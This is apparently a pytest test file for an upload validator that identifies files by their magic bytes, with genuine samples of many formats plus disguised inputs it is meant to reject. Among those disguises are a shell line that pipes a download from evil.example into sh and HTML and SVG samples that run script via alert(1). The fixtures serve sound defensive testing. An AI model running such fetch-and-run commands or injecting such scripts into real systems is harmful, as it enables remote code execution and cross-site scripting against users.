"""What a file is, by its first bytes: every allowed type has a check, real files of each type pass,
and the usual disguises (a program, a script, a web page, another format) do not."""
from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest

from shared.attachments import ALLOWED_TYPES
from shared.file_types import CHECKS, HEAD_BYTES, content_matches, looks_like, mismatch_problem


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) \
        + chunk(b"IEND", b"")


def office_open_xml() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def open_document(mimetype: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype"), mimetype, compress_type=zipfile.ZIP_STORED)
        z.writestr("content.xml", "<office:document-content/>")
    return out.getvalue()


def ftyp(brand: bytes, *compatible: bytes) -> bytes:
    body = brand + b"\x00\x00\x00\x00" + b"".join(compatible)
    return struct.pack(">I", 8 + len(body)) + b"ftyp" + body + b"\x00\x00\x00\x08free"


OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
REAL = {
    "image/jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01",
    "image/png": png(),
    "image/gif": b"GIF89a\x01\x00\x01\x00\x80\x00\x00",
    "image/webp": b"RIFF\x24\x00\x00\x00WEBPVP8 ",
    "image/heic": ftyp(b"heic", b"mif1", b"heic"),
    "application/pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj",
    "text/plain": "温度计读数 36.5℃, batch B2411\r\n".encode(),
    "application/msword": OLE2,
    "application/vnd.ms-excel": OLE2,
    "application/vnd.ms-powerpoint": OLE2,
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document": office_open_xml(),
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet": office_open_xml(),
    "application/vnd.openxmlformats-officedocument.presentationml.presentation": office_open_xml(),
    "application/vnd.oasis.opendocument.text": open_document("application/vnd.oasis.opendocument.text"),
    "application/vnd.oasis.opendocument.spreadsheet": open_document("application/vnd.oasis.opendocument.spreadsheet"),
    "audio/mpeg": b"\xff\xfb\x90\x64\x00\x00\x00\x00",  # an MPEG-1 layer III frame
    "audio/mp4": ftyp(b"M4A ", b"isom"),
    "audio/aac": b"\xff\xf1\x50\x80\x02\x1f\xfc",
    "audio/wav": b"RIFF\x24\x08\x00\x00WAVEfmt ",
    "audio/x-wav": b"RIFF\x24\x08\x00\x00WAVEfmt ",
    "audio/ogg": b"OggS\x00\x02\x00\x00",
    "audio/webm": b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01",
    "audio/amr": b"#!AMR\n\x3c\x48\xf5",
}
DISGUISES = {
    "a Windows program": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00",
    "a Linux program": b"\x7fELF\x02\x01\x01\x00",
    "a shell script": b"#!/bin/sh\ncurl http://evil.example | sh\n",
    "an HTML page": b"<!DOCTYPE html><html><script>alert(1)</script>",
    "an SVG image": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
}


def test_every_allowed_type_has_a_content_check():
    assert set(ALLOWED_TYPES) == set(CHECKS) == set(REAL)


@pytest.mark.parametrize("content_type", sorted(REAL))
def test_real_files_match_their_type(content_type):
    assert content_matches(content_type, REAL[content_type])


@pytest.mark.parametrize("content_type", sorted(REAL))
@pytest.mark.parametrize("disguise", sorted(DISGUISES))
def test_programs_scripts_and_pages_match_no_binary_type(content_type, disguise):
    data = DISGUISES[disguise]
    if content_type == "text/plain" and b"\x00" not in data:
        return  # a script or a page is text: it is kept as text and never served as a page
    assert not content_matches(content_type, data)
    assert mismatch_problem(content_type, data) == f"its content is not {content_type} (it looks like {disguise})"


@pytest.mark.parametrize("declared, actual", [
    ("application/pdf", "image/png"), ("image/jpeg", "image/png"), ("image/png", "image/gif"),
    ("audio/mpeg", "audio/aac"), ("audio/aac", "audio/mpeg"),
    ("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "application/msword"),
    ("application/vnd.oasis.opendocument.text", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("application/vnd.oasis.opendocument.spreadsheet", "application/vnd.oasis.opendocument.text"),
    ("image/webp", "audio/wav"), ("image/heic", "audio/mp4"), ("text/plain", "image/png"),
])
def test_one_format_is_not_taken_for_another(declared, actual):
    assert not content_matches(declared, REAL[actual])


def test_tagged_audio_is_audio():
    tag = b"ID3\x04\x00\x00\x00\x00\x00\x00"  # an ID3v2 tag: MP3s have one, AAC files may
    assert content_matches("audio/mpeg", tag) and content_matches("audio/aac", tag)
    assert not content_matches("audio/ogg", tag)


def test_plain_text_is_utf8_or_utf16_without_nul_bytes():
    assert content_matches("text/plain", b"\xef\xbb\xbfwith a BOM")
    assert content_matches("text/plain", "UTF-16 说明".encode("utf-16"))
    cut = ("汉" * HEAD_BYTES).encode()[:HEAD_BYTES]  # a character cut by the end of the head
    assert content_matches("text/plain", cut)
    assert not content_matches("text/plain", "汉字".encode()[:-1])  # the whole file, cut: not UTF-8
    assert not content_matches("text/plain", "中文".encode("gb18030"))
    assert not content_matches("text/plain", b"text\x00with a NUL")


def test_empty_files_and_unknown_types_never_match():
    assert not content_matches("image/png", b"")
    assert not content_matches("application/x-msdownload", DISGUISES["a Windows program"])
    assert looks_like(b"") == "an empty file" and looks_like(b"\x00\x01\x02") is None
    assert mismatch_problem("image/png", b"\x00\x01") == "its content is not image/png"


def test_pdf_header_may_follow_a_little_junk_but_not_much():
    assert content_matches("application/pdf", b"\r\n" * 10 + b"%PDF-1.4")
    assert not content_matches("application/pdf", b" " * 1100 + b"%PDF-1.4")
